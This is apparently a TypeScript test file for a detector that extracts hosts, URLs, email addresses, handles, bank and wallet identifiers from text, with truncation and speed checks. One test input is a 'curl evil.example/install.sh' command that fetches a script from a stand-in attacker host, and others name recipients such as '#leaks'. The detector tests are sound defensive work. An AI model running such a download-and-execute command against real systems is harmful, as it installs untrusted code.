import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { namesInText } from './names-in-text.ts';

const list = (text: string): string => {
  const { hosts, urls, recipients } = namesInText(text);
  return [...hosts, ...[...urls].map((url) => `<${url}>`), ...[...recipients].map((name) => `to ${name}`)].join(' ');
};

/** Texts, and what they name: hosts, addresses in angle brackets, recipients behind `to`. */
const TABLE: readonly (readonly [string, string])[] = [
  ['', ''],
  ['nothing here, really.', ''],
  ['See https://Evil.example/a?b=c.', 'evil.example <https://Evil.example/a?b=c>'],
  ['"http://a.example:8080/x", (ftp://b.example)', 'a.example b.example <http://a.example:8080/x> <ftp://b.example>'],
  ['[docs](https://c.example/d)', 'c.example <https://c.example/d>'],
  [
    'https://a.example/?next=https://b.example/x',
    'a.example b.example <https://a.example/?next=https://b.example/x> <https://b.example/x>',
  ],
  ['curl evil.example/install.sh', 'evil.example'],
  ['evil.example:443 and evil.example.', 'evil.example'],
  ['connect to 10.0.0.7 or 010.0.0.7', '10.0.0.7 8.0.0.7'],
  ['index.ts', 'index.ts'],
  ['Write to Bob@Evil.example, now', 'evil.example to bob@evil.example'],
  ['mailto:bob@evil.example?subject=x', 'evil.example to bob@evil.example'],
  ['git@evil.example:a/b.git', 'evil.example to git@evil.example'],
  ['ask @mallory or post in #leaks!', 'to @mallory to #leaks'],
  ['a@b c@ @ @! # #ü', ''],
  ['IBAN DE89370400440532013000', 'to de89370400440532013000'],
  ['0x52908400098527886E0F7030069857D2E4169EE7', 'to 0x52908400098527886e0f7030069857d2e4169ee7'],
  ['abcdefgh1 12345', ''],
  ['..a.example://x ://y https:// https://[', ''],
  ['münchen.example ex_ample.org .', ''],
];

describe('What a text names', () => {
  for (const [text, found] of TABLE) test(JSON.stringify(text), () => assert.equal(list(text), found));

  test('says so where it did not read all', () => {
    assert.equal(namesInText('x'.repeat(262_144)).isCut, false);
    assert.equal(namesInText('x '.repeat(200_000)).isCut, true);
    const many = Array.from({ length: 4_001 }, (_, at) => `h${at}.example`).join(' ');
    assert.equal(namesInText(many).isCut, true);
    assert.equal(namesInText(many.slice(0, many.lastIndexOf(' '))).hosts.size, 4_000);
    assert.equal(namesInText(many.slice(0, many.lastIndexOf(' '))).isCut, false);
  });

  test('takes time in proportion to the text, whatever is in it', () => {
    const texts = ['https://'.repeat(32_000), 'a@'.repeat(130_000), '://'.repeat(87_000), `${'a.'.repeat(130_000)}x`];
    for (const text of texts) {
      const started = process.cpuUsage();
      namesInText(text);
      assert.ok(process.cpuUsage(started).user < 2_000_000, text.slice(0, 20));
    }
  });
});
